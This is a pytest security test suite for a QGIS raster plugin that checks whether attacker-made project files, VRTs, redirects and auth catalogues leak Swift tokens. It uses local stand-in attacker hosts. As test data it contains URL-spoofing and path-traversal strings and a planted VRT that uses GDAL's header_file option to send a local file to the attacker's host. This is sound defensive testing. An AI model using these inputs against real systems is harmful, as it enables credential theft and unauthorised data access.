# SPDX-License-Identifier: GPL-2.0-or-later
"""Project files, rasters and catalogues made by an attacker, who listens on a host of his own.

QGIS requests any URL that a project names, and so it does here: but without anything secret. Where
the URL is as Swift's are, it is we who ask, as anybody.
"""

from __future__ import annotations

import base64
import html
import json
import re
import socket
import threading
from typing import NamedTuple
from urllib.parse import unquote

import pytest
from osgeo import gdal
from qgis.core import QgsMapRendererParallelJob, QgsMapSettings, QgsProject, QgsRasterLayer
from qgis.PyQt.QtCore import QSize

from cog_browser.adapters import layer_states, path_translation
from cog_browser.adapters.layer_sources import gateway_urls
from cog_browser.adapters.layer_states import LayerStates
from cog_browser.adapters.layers import build_layer
from cog_browser.adapters.ownership import owner_of
from cog_browser.adapters.path_translation import to_saved_form
from cog_browser.adapters.pending import placeholder, saved_source_of_placeholder
from cog_browser.adapters.revive import Reviver
from cog_browser.adapters.stray_reader import StrayReader
from cog_browser.adapters.workers import Workers
from cog_browser.cog.mosaic.document import is_document
from cog_browser.gui.layers.loader import LayerLoader
from cog_browser.gui.place import ObjectAddress
from cog_browser.storage.connection import Connection
from cog_browser.storage.credentials import Credentials
from cog_browser.storage.errors import ConfigurationError
from cog_browser.storage.gateway.process import (
    GatewayProcess,
    set_up_gateway,
    shared_gateway,
)
from cog_browser.storage.stores import open_store
from cog_browser.storage.vsi import gateway_url, running_source
from tests.support.faults import Fault
from tests.support.patience import WAIT
from tests.support.rasters import make_cog

_RANGE = re.compile(r"bytes=(\d+)-(\d+)")


@pytest.fixture
def cog(tmp_path):
    return make_cog(tmp_path / "scene.tif", 600, 500)


@pytest.fixture
def foreign(fault_proxy, cog):
    """The attacker's host: answers every path with a raster, and records who asks with what."""
    data = cog.read_bytes()
    mark = {"Set-Cookie": "who=you; Path=/"}  # he would like to know us again

    def answer(request):
        wanted = _RANGE.fullmatch(request.header("Range") or "")
        if not wanted:
            return Fault(status=200, body=data, headers={"Accept-Ranges": "bytes", **mark})
        start, stop = int(wanted[1]), min(int(wanted[2]) + 1, len(data))
        place = {"Content-Range": f"bytes {start}-{stop - 1}/{len(data)}"}
        return Fault(status=206, body=data[start:stop], headers={**place, **mark})

    return lambda host="127.0.0.2", port=0: fault_proxy(None, answer=answer, address=(host, port))


class Window(NamedTuple):
    """What brings waiting layers to life."""

    states: LayerStates
    strays: StrayReader
    workers: Workers

    def is_settled(self, layer):
        """Whether nobody is going to ask for the layer's object any more."""
        state, saved = self.states.state_of(layer), to_saved_form(layer.source())
        if state is None or state.state in ("reading", "failing") or owner_of(saved) is None:
            return True
        was_tried = (layer.id(), saved) in self.strays._tried
        return was_tried and not self.workers.is_running(("revive", layer.id()))


@pytest.fixture(params=["qgis_process", "a window"])
def window(request, sessions, workers):
    """Paths are translated; in a QGIS with a window, layers wait, and are opened later."""
    has_window = request.param == "a window"
    states = layer_states.layer_states()
    path_translation.install()
    if has_window:
        set_up_gateway(notify=states.hear)
        reviver = Reviver(sessions, workers, states)
        strays = StrayReader(workers, states)
        path_translation.never_wait(True)
    yield Window(states, strays, workers) if has_window else None
    QgsProject.instance().clear()
    if has_window:
        strays.stop()
        reviver.stop()
        set_up_gateway(notify=None)
    path_translation.uninstall()
    layer_states.close_layer_states()


@pytest.fixture
def states(window):
    return window.states if window is not None else None


@pytest.fixture
def store(faulty_store, sessions, states):
    """A signed-in account, behind proxies that record what is sent to it."""
    return sessions.store(*Connection.from_environment(faulty_store.environment()))


@pytest.fixture
def container(stack, store, cog, sessions):
    name = store.create_container(stack.unique_name()).name
    store.upload(cog, name, "scene.tif")
    thread = threading.Thread(target=lambda: sessions.remember_root(store))
    thread.start()
    thread.join(60)
    return name


@pytest.fixture
def opened(window, tmp_path, cog, qtbot):
    """Opens, draws and saves a project whose author wrote a source into it, and maybe accounts."""

    def open_project(source, accounts=()):
        [layer] = read_project(source, tmp_path, cog, accounts)
        if window is not None:
            qtbot.waitUntil(lambda: window.is_settled(layer), timeout=WAIT)
        draw(layer)
        qtbot.wait(50 if window is not None else 0)
        draw(layer)
        assert QgsProject.instance().write(str(tmp_path / "again.qgs"))
        return layer

    return open_project


def read_project(source, tmp_path, cog, accounts):
    project = QgsProject()
    project.addMapLayer(QgsRasterLayer(str(cog), "innocent", "gdal"))
    project.writeEntry("cog_browser", "accounts", list(accounts))
    path = tmp_path / "project.qgs"
    assert project.write(str(path))
    text = path.read_text()
    assert "./scene.tif" in text
    path.write_text(text.replace("./scene.tif", html.escape(source)))
    QgsProject.instance().clear()
    QgsProject.instance().read(str(path))
    return list(QgsProject.instance().mapLayers().values())


def draw(layer):
    settings = QgsMapSettings()
    settings.setLayers([layer])
    settings.setExtent(layer.extent())
    settings.setOutputSize(QSize(100, 100))
    job = QgsMapRendererParallelJob(settings)
    job.start()
    job.waitForFinished()


def has_pixels(layer):
    try:
        dataset = gdal.Open(layer.source())
        return dataset is not None and dataset.ReadRaster() is not None
    except RuntimeError:  # GDAL's exceptions are on in parts of QGIS
        return False


def secrets_of(stack, store, faulty_store):
    """Passwords, every token that was sent to the store, and the gateway's secret paths."""
    tokens = {r.header("X-Auth-Token") for r in faulty_store.swift.requests} - {None}
    paths = {url.split("/")[3] for url in shared_gateway()._urls}
    return stack.secrets() | tokens | paths | {store._auth.access().token}


def assert_nothing_is_told(requests, secrets, source):
    """But for the user name and password that the attacker may have written into the source."""
    user = re.search(r"http://([^/]+)@", source, re.IGNORECASE)
    own_words = "Basic " + base64.b64encode(user[1].encode()).decode() if user else None
    for request in requests:
        lines = [request.raw_line.decode("latin-1"), *(f"{n}: {v}" for n, v in request.headers)]
        told = unquote("\n".join(lines)) + request.body.decode("latin-1")
        assert request.header("X-Auth-Token") is None
        assert request.header("Cookie") is None
        assert request.header("Authorization") in (None, own_words)
        assert [s for s in secrets if s in told] == []


def test_the_control_a_project_of_ours_opens_and_is_drawn_with_the_token(
    store, container, faulty_store, opened
):
    faulty_store.clear()
    layer = opened(store.source(container, "scene.tif"))
    assert layer.isValid()
    assert gateway_url(layer.source())
    assert {r.header("X-Auth-Token") is None for r in faulty_store.swift.requests} == {False}


#: name → how the attacker alters our source; {ours} and {his} are host:port. All lead to him.
TO_HIM = {
    "another host": ("{ours}", "{his}"),
    "a user part that reads like our host": ("{ours}", "{ours}@{his}"),
    "a user part with a password": ("{ours}", "demo:pw@{his}"),
    "a user part that ends in a backslash": ("{ours}", "{ours}\\@{his}"),
    "our source behind his": ("http://{ours}", "http://{his}/vsicurl/http://{ours}"),
    "our source as a query": ("http://{ours}", "http://{his}/?/vsicurl/http://{ours}"),
    "another scheme of GDAL": ("/vsicurl/http://{ours}", "/vsicurl?url=http://{his}"),
    "our host as a fragment": ("http://{ours}", "http://{his}/#@{ours}"),
}


@pytest.mark.parametrize("name", TO_HIM)
def test_a_source_that_looks_like_ours_takes_nothing_secret_to_another_host(
    store, container, faulty_store, foreign, stack, tmp_path, opened, name
):
    listener = foreign()
    hosts = {"ours": faulty_store.swift.url[7:], "his": listener.url[7:]}
    old, new = (part.format(**hosts) for part in TO_HIM[name])
    source = store.source(container, "scene.tif").replace(old, new)
    secrets = secrets_of(stack, store, faulty_store)
    faulty_store.clear()
    layer = opened(source)
    assert layer.isValid()  # it is a public raster like any other
    assert has_pixels(layer)
    assert to_saved_form(layer.source()) == source  # by the gateway or not, it is his that is read
    assert listener.requests
    secrets |= secrets_of(stack, store, faulty_store)  # the gateway's path to his raster
    assert_nothing_is_told(listener.requests, secrets, source)
    assert faulty_store.swift.requests == []
    again = (tmp_path / "again.qgs").read_text()
    assert html.escape(source, quote=False) in again
    assert [s for s in secrets if s in again] == []


@pytest.mark.parametrize("address", ["127.0.0.11", "127.0.0.1"])
def test_a_host_whose_name_begins_like_ours_is_told_nothing(
    store, container, faulty_store, foreign, stack, opened, names, address
):
    is_ours = address == "127.0.0.1"
    listener = foreign(address, 0 if is_ours else faulty_store.swift.port)
    host = "127.0.0.1.localhost" if is_ours else address
    names["127.0.0.1.localhost"] = ("127.0.0.1", listener.port)
    ours, his = faulty_store.swift.url[7:], f"{host}:{listener.port}"
    source = store.source(container, "scene.tif").replace(ours, his)
    secrets = secrets_of(stack, store, faulty_store)
    faulty_store.clear()
    opened(source)
    assert listener.requests
    assert_nothing_is_told(listener.requests, secrets, source)
    assert faulty_store.swift.requests == []


@pytest.mark.parametrize("to", ["our object", "a third host"])
def test_a_redirect_of_a_stranger_leads_nothing_secret_anywhere(
    store, container, faulty_store, foreign, stack, opened, window, to
):
    listener, third = foreign(), foreign("127.0.0.3")
    genuine = store.source(container, "scene.tif")
    source = genuine.replace(faulty_store.swift.url, listener.url)
    secrets = secrets_of(stack, store, faulty_store)
    faulty_store.clear()
    target = faulty_store.swift if to == "our object" else third
    listener.add(Fault(redirect_to=target.url), times=None)
    layer = opened(source)
    assert listener.requests
    secrets |= secrets_of(stack, store, faulty_store)
    for told in (listener, third, faulty_store.swift):
        assert_nothing_is_told(told.requests, secrets, source)
    if window is not None:  # without one, QGIS itself follows
        assert target.requests == []
        assert saved_source_of_placeholder(layer.source()) == source
        assert not has_pixels(layer)


#: name → how the attacker alters our source. These stay on our host, or lead nowhere.
TO_US = {
    "an account whose name begins like ours": (r"(AUTH_\w+)", r"\1y"),
    "another account": (r"AUTH_\w", "AUTH_"),
    "dot segments": (r"(AUTH_\w+)/", r"\1/x/../"),
    "dot segments to another account": (r"(AUTH_\w+)/", r"\1/../AUTH_other/"),
    "encoded dot segments": (r"(AUTH_\w+)/", r"\1/x/%2e%2e/"),
    "half encoded dot segments": (r"(AUTH_\w+)/", r"\1/.%2E/\1/"),
    "an encoded slash": (r"/scene", "%2Fscene"),
    "an encoded letter": (r"scene", "%73cene"),
    "a backslash": (r"/scene", r"\\scene"),
    "a backslash before his host": (r"http://", r"http://{his}\\@"),
    "a user of ours": (r"http://", "http://demo:pw@"),
    "another name of our host": (r"127\.0\.0\.1", "localhost"),
    "another spelling of our host": (r"127\.0\.0\.1", "127.1"),
    "capitals": (r"http://", "HTTP://"),
    "two slashes": (r"/v1/", "//v1/"),
    "a query": (r"$", "?temp_url_sig=0"),
    "an option of QGIS": (r"$", "|option:NUM_THREADS=2"),
}


#: Those whose URL is as Swift's are: we ask for them as anybody, and with a window they wait.
AS_ANYBODY = {
    "an account whose name begins like ours",
    "another account",
    "another name of our host",
    "another spelling of our host",
}


@pytest.mark.parametrize("name", TO_US)
def test_another_spelling_gets_no_token_even_from_our_own_host(
    store, container, faulty_store, foreign, stack, opened, window, name
):
    listener = foreign()
    pattern, new = TO_US[name]
    genuine = store.source(container, "scene.tif")
    source = re.sub(pattern, new.replace("{his}", listener.url[7:]), genuine)
    assert source != genuine
    secrets = secrets_of(stack, store, faulty_store)
    faulty_store.clear()
    layer = opened(source)
    asked = list(faulty_store.swift.requests)
    assert asked or name not in AS_ANYBODY
    assert_nothing_is_told(listener.requests + asked, secrets, source)
    assert gateway_url(layer.source()) is None
    if window is not None and name in AS_ANYBODY:
        assert saved_source_of_placeholder(layer.source()) == source
        assert window.states.state_of(layer).connection_id == ""
        assert not has_pixels(layer)
    else:
        assert not layer.isValid()
        assert layer.error().summary()


def test_a_running_form_of_a_session_that_ended_tells_its_successor_on_the_port_nothing(
    store, container, faulty_store, foreign, stack, opened
):
    ended = GatewayProcess()
    url = ended.url(store, container, "scene.tif", store.source(container, "scene.tif"))
    ended.stop()
    ended._urls.pop(url)  # it was another QGIS
    listener = foreign("127.0.0.1", int(url.split(":")[2].split("/")[0]))
    secrets = secrets_of(stack, store, faulty_store)
    faulty_store.clear()
    opened(running_source(url))
    assert listener.requests
    assert_nothing_is_told(listener.requests, secrets, url)
    assert faulty_store.swift.requests == []


@pytest.mark.parametrize(
    "path",
    [
        "{guess}/scene.tif",
        "{guess}/../{secret}/scene.tif",
        "%2e%2e/{secret}/scene.tif",
        "{secret}/scene.tif.aux.xml",
        "{secret}/",
        "{secret}/scene.tif/../../",
        "scene.tif",
        "",
    ],
)
def test_a_guessed_path_on_a_gateway_that_runs_reads_nothing(
    store, container, faulty_store, opened, path
):
    gateway = shared_gateway()
    url = gateway.url(store, container, "scene.tif", store.source(container, "scene.tif"))
    root, _, rest = url[7:].partition("/")
    path = path.format(guess="0" * 32, secret=rest.split("/")[0][:-1] + "x")
    faulty_store.clear()
    layer = opened(running_source(f"http://{root}/{path}"))
    assert not layer.isValid()
    assert layer.error().summary()
    assert faulty_store.swift.requests == []
    assert gateway.meter(url).bytes_served == 0


#: name → the account that a project claims, and its layer's source; {his} is his URL.
CLAIMS = {
    "his own": ("/vsicurl/{his}/v1/AUTH_x/", "/vsicurl/{his}/v1/AUTH_x/c/scene.tif"),
    "ours below his": ("/vsicurl/{his}/{ours}/", "/vsicurl/{his}/{ours}/c/scene.tif"),
    "a web folder": ("/vsicurl/{his}/cogs/", "/vsicurl/{his}/cogs/c/scene.tif"),
}


@pytest.mark.parametrize("name", CLAIMS)
def test_an_account_that_a_project_claims_to_be_of_gets_nothing_secret(
    store, container, faulty_store, foreign, stack, tmp_path, opened, states, name
):
    listener = foreign()
    hosts = {"ours": store.source("c", "k")[len("/vsicurl/http://") : -4], "his": listener.url}
    account, source = (part.format(**hosts) for part in CLAIMS[name])
    secrets = secrets_of(stack, store, faulty_store)
    faulty_store.clear()
    layer = opened(source, [account, "/vsicurl/", "", "/etc/", account + "../"])
    waits = states is not None and name == "a web folder"
    assert (listener.requests == []) == waits  # the others are as Swift's are, and public
    assert has_pixels(layer) != waits
    secrets |= secrets_of(stack, store, faulty_store)
    assert_nothing_is_told(listener.requests, secrets, source)
    assert faulty_store.swift.requests == []
    assert to_saved_form(layer.source()) == source
    again = (tmp_path / "again.qgs").read_text()
    assert f"<datasource>{source}</datasource>" in again
    assert [s for s in secrets if s in again] == []
    if states is not None:
        assert states.state_of(layer).connection_id == ""


def test_what_a_project_claims_is_forgotten_with_the_project(foreign, opened, states, store):
    """Or else it would keep public rasters of all later projects from being opened."""
    listener = foreign()
    source = f"/vsicurl/{listener.url}/cogs/c/scene.tif"
    layer = opened(source, [f"/vsicurl/{listener.url}/cogs/"])
    assert (saved_source_of_placeholder(layer.source()) == source) == (states is not None)
    layer = opened(source)
    assert layer.isValid()
    assert layer.source() == source


@pytest.mark.parametrize("hidden", ["{his}", "/vsicurl/{his}/x.tif", "/vsicurl?url={his}/x.tif"])
def test_a_placeholder_in_a_project_stands_for_nothing_but_itself(
    store, container, faulty_store, foreign, stack, opened, hidden
):
    listener = foreign()
    secrets = secrets_of(stack, store, faulty_store)
    faulty_store.clear()
    source = placeholder(hidden.format(his=listener.url))
    layer = opened(source)
    assert_nothing_is_told(listener.requests, secrets, source)
    assert faulty_store.swift.requests == []
    assert gateway_url(layer.source()) is None or "x.tif" in layer.source()


def vrt(source, cog):
    dataset = gdal.Open(str(cog))
    return (
        f'<VRTDataset rasterXSize="{dataset.RasterXSize}" rasterYSize="{dataset.RasterYSize}">'
        '<VRTRasterBand dataType="UInt16" band="1"><SimpleSource>'
        f"<SourceFilename>{html.escape(source)}</SourceFilename><SourceBand>1</SourceBand>"
        "</SimpleSource></VRTRasterBand></VRTDataset>"
    ).encode()


@pytest.fixture(params=["his host", "a local file", "a local file that goes to his host"])
def evil(request, foreign, store, container, stack, tmp_path, cog):
    """A VRT that a person with write access has put into the container as ``evil.tif``."""
    listener = foreign()
    secret = tmp_path / "secret"
    secret.write_text("X-Stolen: planted\n")
    source = {
        "his host": f"/vsicurl/{listener.url}/x.tif",
        "a local file": str(cog),
        "a local file that goes to his host": (
            f"/vsicurl?header_file={secret}&url={listener.url}/x.tif"
        ),
    }[request.param]
    data = vrt(source, cog)
    (tmp_path / "control.vrt").write_bytes(data)
    control = gdal.Open(str(tmp_path / "control.vrt"))
    assert control.ReadRaster()  # GDAL does what the VRT says, if it gets it
    assert bool(listener.requests) == (request.param != "a local file")
    stack.connection().put_object(container, "evil.tif", data, content_type="image/tiff")
    gdal.VSICurlClearCache()
    listener.clear()
    return listener


def test_a_vrt_in_the_store_is_no_layer_of_a_project(store, container, evil, opened, states):
    layer = opened(store.source(container, "evil.tif"))
    assert evil.requests == []
    said = f"“evil.tif” in container “{container}” is no TIFF, so it "
    if states is not None:  # a placeholder goes on standing for it, and says why
        state = states.state_of(layer)
        assert (state.state, state.reason.startswith(said)) == ("failing", True)
        assert gateway_url(layer.source()) is None
        return
    assert not layer.isValid()
    meter = shared_gateway().meter(gateway_url(layer.source()))
    assert meter.last_error == said + "is not read."
    assert meter.bytes_served == 4 * meter.failures  # looked at, not handed out


def test_a_vrt_in_the_store_is_refused_in_a_sentence(
    store, container, evil, workers, message_bar, qtbot
):
    loader = LayerLoader(workers, message_bar, lambda connection_id: None)
    address = ObjectAddress(store.connection.id, container, "evil.tif")
    loader.add(store, (address,))
    qtbot.waitUntil(lambda: not loader.is_busy, timeout=WAIT)
    [item] = message_bar.items()
    assert f"“evil.tif” in container “{container}” is no TIFF" in html.unescape(item.text())
    assert QgsProject.instance().mapLayers() == {}
    assert evil.requests == []


def joined(kind, sources, cog):
    """A document as ours, that an attacker has written."""
    dataset = gdal.Open(str(cog))
    width, height = dataset.RasterXSize, dataset.RasterYSize
    place = f'xSize="{width}" ySize="{height}"/>'
    parts = "".join(
        f'<SimpleSource><SourceFilename relativeToVRT="0">{html.escape(source, quote=False)}'
        "</SourceFilename><SourceBand>1</SourceBand>"
        f'<SrcRect xOff="0" yOff="0" {place}<DstRect xOff="0" yOff="0" {place}</SimpleSource>'
        for source in sources
    )
    return (
        f'<VRTDataset rasterXSize="{width}" rasterYSize="{height}"><SRS>EPSG:32631</SRS>'
        "<GeoTransform>500000.0, 10.0, 0.0, 5000000.0, 0.0, -10.0</GeoTransform>"
        f'<Metadata domain="cog_browser"><MDI key="kind">{kind}</MDI></Metadata>'
        f'<VRTRasterBand dataType="UInt16" band="1">{parts}</VRTRasterBand></VRTDataset>'
    )


def read_quietly(layer):
    gdal.PushErrorHandler("CPLQuietErrorHandler")
    try:
        return has_pixels(layer)
    finally:
        gdal.PopErrorHandler()


@pytest.mark.parametrize("kind", ["mosaic", "stack"])
def test_a_vrt_in_the_store_is_no_part_of_a_mosaic_either(
    store, container, evil, opened, window, cog, kind
):
    """GDAL opens a mosaic's objects with any driver; that it gets TIFFs only is the gateway's."""
    genuine, planted = (store.source(container, name) for name in ("scene.tif", "evil.tif"))
    control = opened(joined(kind, [genuine], cog))
    assert is_document(control.source())
    assert has_pixels(control)
    layer = opened(joined(kind, [planted, genuine], cog))
    assert is_document(layer.source())
    [url, _] = gateway_urls(layer.source())
    assert not read_quietly(layer)
    assert evil.requests == []
    meter = shared_gateway().meter(url)
    said = f"“evil.tif” in container “{container}” is no TIFF, so it is not read."
    assert meter.last_error == said
    assert meter.bytes_served == 4 * meter.failures  # looked at, not handed out


def test_a_raster_that_becomes_a_vrt_while_it_is_open_stays_what_it_was(
    store, container, evil, stack, cog
):
    built = []
    thread = threading.Thread(
        target=lambda: built.append(build_layer(store, container, "scene.tif"))
    )
    thread.start()
    thread.join(60)
    data = stack.connection().get_object(container, "evil.tif")[1]
    stack.connection().put_object(container, "scene.tif", data)
    source = built[0].source()
    shared_gateway().forget(store.connection.id, container, "scene.tif")
    gdal.VSICurlClearCache()
    for running in (
        source,
        path_translation.to_running_form(store.source(container, "scene.tif")),
    ):
        gdal.PushErrorHandler("CPLQuietErrorHandler")
        try:
            assert saved_source_of_placeholder(running) or gdal.Open(running) is None
        except RuntimeError:  # GDAL's exceptions are on in parts of QGIS
            pass
        finally:
            gdal.PopErrorHandler()
    assert evil.requests == []


@pytest.fixture
def names(monkeypatch):
    """Name servers of the test: host name → address and port."""
    known = {}
    real = socket.getaddrinfo

    def resolve(host, port, *rest, **options):
        host, port = known.get(host, (host, port))
        return real(host, port, *rest, **options)

    monkeypatch.setattr(socket, "getaddrinfo", resolve)
    return known


LEADS_ASTRAY = {
    "http://storage.evil.co.uk/v1/AUTH_x": "another site, storage.evil.co.uk",
    "http://keystone.ours.co.uk.evil.org/v1/AUTH_x": "another site",
    "http://keystone.ours.co.uk@storage.evil.co.uk/v1/AUTH_x": "no usable URL",
    "http://storage.evil.co.uk\\.ours.co.uk/v1/AUTH_x": "no usable URL",
    "http://storage.evil.co.uk\\@keystone.ours.co.uk/v1/AUTH_x": "no usable URL",
    "http://storage.evil.co.uk\t.ours.co.uk/v1/AUTH_x": "no usable URL",
    "http://[storage.evil.co.uk/v1/AUTH_x": "no usable URL",
}


@pytest.mark.parametrize("version", ["v3", "v1"])
@pytest.mark.parametrize("away", LEADS_ASTRAY)
def test_no_token_reaches_a_host_that_a_sign_in_service_was_turned_to(
    fault_proxy, foreign, names, away, version
):
    listener = foreign()
    home = fault_proxy(None)
    names["keystone.ours.co.uk"] = ("127.0.0.1", home.port)
    for host in (
        "storage.evil.co.uk",
        "keystone.ours.co.uk.evil.org",
        "storage.evil.co.uk.ours.co.uk",
    ):
        names[host] = ("127.0.0.2", listener.port)
    if version == "v3":
        ends = [{"interface": "public", "region_id": "RegionOne", "url": away}]
        body = {
            "token": {"project": {}, "catalog": [{"type": "object-store", "endpoints": ends}]},
        }
        token = {"X-Subject-Token": "gAAAA-token"}
        home.add(Fault(status=201, headers=token, body=json.dumps(body).encode()), times=None)
    else:
        headers = {"X-Auth-Token": "gAAAA-token", "X-Storage-Url": away}
        home.add(Fault(status=200, headers=headers), times=None)
    connection = Connection(
        "x",
        auth_mode="password" if version == "v3" else "v1",
        auth_url=f"http://keystone.ours.co.uk:{home.port}/v3",
        user_name="demo",
        project_id="p",
        region="RegionOne",
    )
    with pytest.raises(ConfigurationError, match=LEADS_ASTRAY[away]):
        list(open_store(connection, Credentials(password="planted")).list_containers())
    assert home.requests
    assert listener.requests == []


def test_the_control_a_host_of_the_same_owner_gets_the_token(fault_proxy, foreign, names):
    home, sibling = fault_proxy(None), fault_proxy(None, answer=Fault(status=200, body=b"[]"))
    names["keystone.ours.co.uk"] = ("127.0.0.1", home.port)
    names["storage.ours.co.uk"] = ("127.0.0.1", sibling.port)
    url = "http://storage.ours.co.uk/v1/AUTH_x"
    home.add(Fault(status=200, headers={"X-Auth-Token": "gAAAA-token", "X-Storage-Url": url}))
    connection = Connection(
        "x", auth_mode="v1", auth_url="http://keystone.ours.co.uk/auth/v1.0", user_name="a:b"
    )
    assert list(open_store(connection, Credentials(password="planted")).list_containers()) == []
    assert sibling.requests[0].header("X-Auth-Token") == "gAAAA-token"
